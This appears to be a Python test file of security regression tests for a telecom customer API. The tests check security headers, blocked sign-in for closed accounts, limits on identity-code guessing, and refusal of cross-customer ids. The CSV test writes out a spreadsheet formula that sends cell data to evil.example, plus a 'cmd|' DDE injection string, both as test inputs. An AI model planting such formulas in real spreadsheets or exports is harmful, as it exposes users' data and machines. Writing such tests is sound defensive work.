"""Holes found by the security probes of the API (docs/decisions.md, 2026-11-26), one regression test each.

The probes themselves (cross-customer ids on every route, forged and replayed tokens, each staff role on each
route, the provider API's credentials, enumeration on the public routes) found the rest closed; the tests that
already cover those are listed in the README's "Security probes" section.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from typing import Any

import boto3
import pytest
from selfcare.api.headers import SECURITY_HEADERS
from selfcare.auth.policy import StaffRole
from selfcare.clock import add_months
from selfcare.dal.invoice_documents import InvoiceDocuments
from selfcare.projection.models import Outcome
from selfcare.retention.rules import Step

from infra import definitions as d
from infra.local.gateway import HttpResponse
from infra.local.oidc_provider import OidcProvider
from infra.local.resources import LocalResources
from infra.local.server import gateway_error
from tests import contract
from tests.factories import DemoWorld
from tests.integration import test_billing as billing_tests
from tests.integration import test_digital_identity as di
from tests.integration import test_rights as rights_tests
from tests.integration.conftest import Api, body
from tests.integration.test_retention import projection_at, terminate

# The local OpenID Connect provider and an API whose handlers know it (fixtures of the digital-identity tests).
provider = di.provider
oidc_api = di.oidc_api


def assert_security_headers(response: HttpResponse) -> None:
    lowered = {name.lower(): value for name, value in response.headers.items()}
    missing = {name: value for name, value in SECURITY_HEADERS.items() if lowered.get(name.lower()) != value}
    assert not missing, f"{response.status} answer lacks {missing}"


def test_every_kind_of_answer_carries_the_security_headers(api: Api, world: DemoWorld) -> None:
    # Given Jeanne's session
    jeanne = world.customers[0]
    token = api.login(jeanne.login_id, jeanne.password)["access_token"]
    lines = body(api.call("GET", "/mobile/lines", token=token))["lines"]
    answers = {
        # personal data (her account, her usage as CSV)
        "account": api.call("GET", "/account", token=token),
        "csv": api.gateway.handle(
            "GET", "/billing/usage/export", {"Authorization": f"Bearer {token}"}, None, {"line_id": lines[0]["line_id"]}
        ),
        # a function's refusals: another customer's line, a validation error, an oversized body
        "not found": api.call("GET", "/mobile/lines/M-377623456780", token=token),
        "invalid": api.call("PUT", "/account/contact/landline", {"landline": 42}, token=token),
        "too large": api.call("PUT", "/account/contact/landline", raw_body="x" * 20_000, token=token),
        # API Gateway's own answers: no credentials, no such route
        "unauthenticated": api.call("GET", "/account"),
        "no route": api.call("GET", "/nothing-here"),
        # a public route and a login
        "notice": api.call("GET", "/privacy/notice"),
        "login": api.call("POST", "/auth/login", {"identifier": jeanne.login_id, "password": jeanne.password}),
    }
    # Then each one carries every security header: not stored, not sniffed, not framed, HTTPS only
    assert answers["account"].status == 200 and answers["login"].status == 200 and answers["csv"].status == 200
    assert answers["not found"].status == 404 and answers["unauthenticated"].status == 401
    assert answers["too large"].status == 413 and answers["no route"].status == 404
    for response in answers.values():
        assert_security_headers(response)
    assert SECURITY_HEADERS["Cache-Control"] == "no-store"
    assert SECURITY_HEADERS["X-Content-Type-Options"] == "nosniff"
    assert SECURITY_HEADERS["Strict-Transport-Security"].startswith("max-age=")
    # and the local server's own refusals (a body that is not UTF-8, a malformed request) as API Gateway's
    assert_security_headers(gateway_error("DEFAULT_4XX", 400))
    # and no CORS header: other origins stay out
    assert not [name for name in answers["account"].headers if name.lower().startswith("access-control-")]


def test_the_sms_report_csv_never_starts_a_formula(api: Api, world: DemoWorld) -> None:
    # Given a provider whose legal name and declaration number a spreadsheet would run as formulas
    member = world.staff[StaffRole.SALES]
    token = api.staff_login(member.email, member.password)["access_token"]
    formula = '=HYPERLINK("https://evil.example/?x="&A1,"Riviera")'
    created = api.call(
        "POST",
        "/sms/providers",
        {
            "legal_name": formula,
            "declaration_number": "+1+cmd|' /C calc'!A0",
            "contract_reference": "VAS-2026-007",
            "contract_start": "2026-01-01",
            "sender_ids": ["RIVIERA"],
            "opt_out_number": "36180",
            "throughput_per_second": 10,
        },
        token=token,
    )
    assert created.status == 201, created.body
    provider_id = body(created)["provider_id"]
    # When staff download its monthly report as CSV
    month = datetime.now(UTC).strftime("%Y-%m")
    answer = api.call("GET", f"/sms/providers/{provider_id}/reports/{month}/csv", token=token)
    # Then those cells are text (a leading apostrophe), the figures untouched
    assert answer.status == 200, answer.body
    rows = dict(csv.reader(io.StringIO(str(answer.body))))
    assert rows["legal_name"] == "'" + formula
    assert rows["declaration_number"] == "'+1+cmd|' /C calc'!A0"
    assert rows["submitted"] == "0"
    assert_security_headers(answer)


# A hidden (terminated) customer's space: no way in, whatever opens the session ----------------------------------
def hide(customer_id: str) -> None:
    """Terminated 40 days ago; the hide step (due one calendar month after) has run."""
    terminated_at = datetime.now(UTC) - timedelta(days=40)
    terminate(customer_id, terminated_at)
    assert projection_at(add_months(terminated_at, 1)).step(Step.HIDE, customer_id) is Outcome.APPLIED


def sessions_of(aws: LocalResources, customer_id: str) -> list[dict[str, Any]]:
    items = boto3.client("dynamodb").scan(TableName=aws.table_names[d.SESSIONS.logical_id])["Items"]
    return [
        i for i in items if i.get("principal", {}).get("S") == f"customer#{customer_id}" and not i["revoked"]["BOOL"]
    ]


def test_a_hidden_customer_cannot_sign_in_with_the_digital_identity(
    oidc_api: Api, provider: OidcProvider, aws: LocalResources, world: DemoWorld
) -> None:
    # Given Jeanne (her digital identity linked) terminated and her space hidden
    hide(world.customers[0].customer_id)
    # When she signs in with her digital identity
    response = di._login(oidc_api, provider, di.JEANNE)
    # Then she is told the space is closed, as with her password, and no session is opened
    assert response.status == 410, response.body
    assert body(response)["error"]["code"] == "account_closed"
    assert sessions_of(aws, "C0001") == []


def test_a_hidden_customer_cannot_link_a_digital_identity_to_get_in(
    oidc_api: Api, provider: OidcProvider, aws: LocalResources, world: DemoWorld
) -> None:
    # Given Marco's digital identity, linked to nothing, and his space hidden
    marco = world.customers[1]
    hide(marco.customer_id)
    ticket = body(di._login(oidc_api, provider, di.MARCO))["link_ticket"]
    # When he proves control of his account with his password to link it
    linked = oidc_api.call(
        "POST",
        "/auth/digital-identity/link",
        {"link_ticket": ticket, "identifier": marco.login_id, "password": marco.password},
    )
    # Then the space is closed: no link, no session
    assert linked.status == 410, linked.body
    assert body(linked)["error"]["code"] == "account_closed"
    assert sessions_of(aws, "C0002") == []
    assert body(di._login(oidc_api, provider, di.MARCO))["outcome"] == "link_required"


def test_a_linked_account_once_hidden_cannot_be_switched_to(api: Api, aws: LocalResources, world: DemoWorld) -> None:
    # Given Jeanne linked Marco's account to hers (his password as the proof)
    jeanne, marco = world.customers
    token = api.login(jeanne.login_id, jeanne.password)["access_token"]
    linked = api.call("POST", "/account/links", {"identifier": marco.login_id, "password": marco.password}, token=token)
    assert linked.status == 201, linked.body
    # When Marco's space is hidden, and Jeanne switches to it
    hide(marco.customer_id)
    switched = api.call("POST", f"/account/links/{marco.account_number}/switch", token=token)
    # Then it is closed: no session of his space is opened
    assert switched.status == 410, switched.body
    assert body(switched)["error"]["code"] == "account_closed"
    assert sessions_of(aws, "C0002") == []
    # and Jeanne's own space is untouched
    assert api.call("GET", "/account", token=token).status == 200


def test_concurrent_wrong_identity_codes_each_use_a_try(
    api: Api, world: DemoWorld, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given an access request received by email, and the identity code sent to the customer
    customer = world.customers[0]
    token = rights_tests.staff_token(api, world)
    registered = api.call(
        "POST",
        "/staff/data-requests",
        {"customer_id": customer.customer_id, "kind": "access", "channel": "email"},
        token=token,
    )
    assert registered.status == 201, registered.body
    base = f"/staff/customers/{customer.customer_id}/data-requests/{body(registered)['request_id']}"
    assert api.call("POST", f"{base}/identity-code", {"to": "email"}, token=token).status == 202
    code = rights_tests.last_code(customer.email)
    # and requests that all read the request before any of them counted a wrong code (sent at the same time)
    requests = api.gateway.handlers["rights"].desk.requests
    seen = requests.get(customer.customer_id, body(registered)["request_id"])
    monkeypatch.setattr(requests, "get", lambda *args, **kwargs: seen)
    # When six wrong codes are tried, then the right one
    wrong = [f"{(int(code) + n) % 10**6:06d}" for n in range(1, 7)]
    refused = [api.call("POST", f"{base}/identity-code/verification", {"code": c}, token=token) for c in wrong]
    right = api.call("POST", f"{base}/identity-code/verification", {"code": code}, token=token)
    # Then each wrong code used a try, and the right one comes too late: refused like a wrong one
    assert [r.status for r in refused] == [400] * 6
    assert right.status == 400, right.body
    assert body(right)["error"]["code"] == "invalid_verification_code"
    monkeypatch.undo()
    assert requests.get(customer.customer_id, body(registered)["request_id"]).status.value == "awaiting_identity"


# Cross-customer ids: every route, as a regression guard ------------------------------------------------------------
VALID_BODIES: dict[tuple[str, str], dict[str, Any]] = {
    ("PUT", "/account/commercial-sms/lines/{line_id}"): {"opted_out": True},
    ("PATCH", "/internet/lines/{line_id}/boxes/{box_id}"): {"name": "Salon"},
    ("POST", "/internet/lines/{line_id}/mailboxes"): {"local_part": "probe.box", "password": "Str0ng-Passw0rd!x"},
    ("PUT", "/internet/lines/{line_id}/mailboxes/{mailbox_id}/password"): {"new_password": "Str0ng-Passw0rd!x"},
    ("POST", "/internet/lines/{line_id}/nomadic-access"): {"password": "Str0ng-Passw0rd!x"},
    ("PUT", "/internet/lines/{line_id}/nomadic-access/password"): {"new_password": "Str0ng-Passw0rd!x"},
    ("POST", "/mobile/lines/{line_id}/sim"): {"iccid": "8937701000000000015"},
    ("PATCH", "/tv/lines/{line_id}/boxes/{box_id}"): {"name": "Salon"},
    ("POST", "/tv/lines/{line_id}/packs"): {"pack_id": "sport"},
    ("PUT", "/tv/lines/{line_id}/password"): {"new_password": "Str0ng-Passw0rd!x"},
    ("PUT", "/voip/lines/{line_id}/call-waiting"): {"enabled": True},
    ("PUT", "/voip/lines/{line_id}/caller-id-hiding"): {"enabled": True},
    ("PUT", "/voip/lines/{line_id}/forwarding"): {"destination": "+37799999999"},
    ("PUT", "/voip/lines/{line_id}/pin"): {"pin": "4829"},
    ("PUT", "/voip/lines/{line_id}/restrictions"): {"international": True, "premium_rate": True, "mobile": False},
    ("PUT", "/account/consents/{purpose}"): {"granted": True},
}


def _first(found: Any, key: str) -> str | None:
    if isinstance(found, dict):
        if isinstance(found.get(key), str):
            return str(found[key])
        found = list(found.values())
    if isinstance(found, list):
        return next((v for v in (_first(item, key) for item in found) if v), None)
    return None


def _victim_ids(api: Api, token: str, account_number: str) -> dict[tuple[str, str], str]:
    """The ids of the victim's objects, by (first path segment, parameter name)."""

    def get(path: str) -> Any:
        return body(api.call("GET", path, token=token))

    ids: dict[tuple[str, str], str | None] = {(p, "line_id"): _first(get(f"/{p}/lines"), "line_id") for p in LINE_KINDS}
    internet, tv = ids[("internet", "line_id")], ids[("tv", "line_id")]
    ids[("internet", "box_id")] = _first(get(f"/internet/lines/{internet}/boxes"), "box_id")
    ids[("internet", "mailbox_id")] = _first(get(f"/internet/lines/{internet}/mailboxes"), "mailbox_id")
    ids[("tv", "box_id")] = _first(get(f"/tv/lines/{tv}/boxes"), "box_id")
    ids[("tv", "pack_id")] = _first(get(f"/tv/lines/{tv}/packs"), "pack_id")
    ids[("billing", "invoice_id")] = _first(get("/billing/invoices"), "invoice_id")
    ids[("services", "service_id")] = _first(get("/services"), "service_id")
    ids[("auth", "session_id")] = _first(get("/auth/sessions"), "session_id")
    ticket = {"category": "other", "subject": "My ticket", "description": "A ticket of the victim"}
    ids[("account", "ticket_id")] = _first(body(api.call("POST", "/account/tickets", ticket, token=token)), "ticket_id")
    requested = api.call("POST", "/account/data-requests", {"kind": "access"}, token=token)
    ids[("account", "request_id")] = _first(body(requested), "request_id")
    mobile = ids[("mobile", "line_id")]
    suspended = api.call("POST", f"/mobile/lines/{mobile}/suspension", {}, token=token)
    ids[("mobile", "handle")] = _first(body(suspended), "handle")
    ids[("account", "line_id")] = mobile
    ids[("account", "account_number")] = ids[("accounts", "account_number")] = account_number
    return {k: v for k, v in ids.items() if v}


LINE_KINDS = ("mobile", "fixed", "internet", "voip", "tv")
# Routes whose path ids are not another customer's objects: a consent purpose, the provider API, staff routes.
NOT_CUSTOMER_OBJECTS = ("/staff/", "/sms/provider", "/account/consents/{purpose}")


def _unknown(value: str) -> str:
    """An id of the same shape that names nothing (a workflow handle keeps its pattern)."""
    if re.fullmatch(r"\w+-[0-9a-f]{20}-v\d+", value):
        return re.sub(r"-[0-9a-f]{20}-", "-" + "0" * 20 + "-", value)
    return value[:-5] + ("00000" if not value.endswith("00000") else "11111")


def test_another_customers_ids_answer_like_unknown_ones_on_every_route(
    api: Api, world: DemoWorld, aws: LocalResources
) -> None:
    # Given Jeanne's objects (a line of each kind, boxes, mailboxes, packs, an invoice, a ticket, a rights request, a
    # session, a workflow) and Marco's (a service too), each logged in
    jeanne, marco = world.customers
    bill = billing_tests.invoice(jeanne.customer_id, "INV-C0001-1", datetime.now(UTC) - timedelta(days=10))
    billing_tests.repo().put_invoice(bill, 1)
    InvoiceDocuments(aws.invoices_bucket).put_pdf(bill.pdf_key or "", b"%PDF-1.4 hers")
    tokens = {c.customer_id: api.login(c.login_id, c.password)["access_token"] for c in (jeanne, marco)}
    victims = {c.customer_id: _victim_ids(api, tokens[c.customer_id], c.account_number) for c in (jeanne, marco)}
    # When the other one calls every route that takes an id in its path with the victim's ids (Jeanne's, or
    # Marco's where only he has such an object), then with ids that name nothing
    tried = 0
    for path, operations in contract.document()["paths"].items():
        names = re.findall(r"\{(\w+)\}", path)
        if not names or path.startswith(NOT_CUSTOMER_OBJECTS):
            continue
        prefix = path.split("/")[1]
        victim = next((v for v, ids in victims.items() if all((prefix, n) in ids for n in names)), None)
        assert victim is not None, f"no id of a victim for {path}"
        ids, attacker = victims[victim], tokens["C0002" if victim == "C0001" else "C0001"]
        hers = unknown = path
        for n in names:
            hers = hers.replace(f"{{{n}}}", ids[(prefix, n)])
            unknown = unknown.replace(f"{{{n}}}", _unknown(ids[(prefix, n)]))
        for method in operations:
            payload = VALID_BODIES.get((method.upper(), path), {})
            answers = [api.call(method.upper(), p, payload, token=attacker) for p in (hers, unknown)]
            # Then the same 404, the same error: nothing says that the victim's object exists
            assert [a.status for a in answers] == [404, 404], (method, path, [a.body for a in answers])
            assert body(answers[0])["error"]["message"] == body(answers[1])["error"]["message"], (method, path)
            tried += 1
    assert tried >= 50  # the loop fails on any such route it cannot try: all of them were
    # And the victims' objects are as they were: Jeanne's session lives, her line is still hers to read
    hers = victims["C0001"]
    assert api.call("GET", "/account", token=tokens["C0001"]).status == 200
    assert api.call("GET", f"/mobile/lines/{hers[('mobile', 'line_id')]}", token=tokens["C0001"]).status == 200
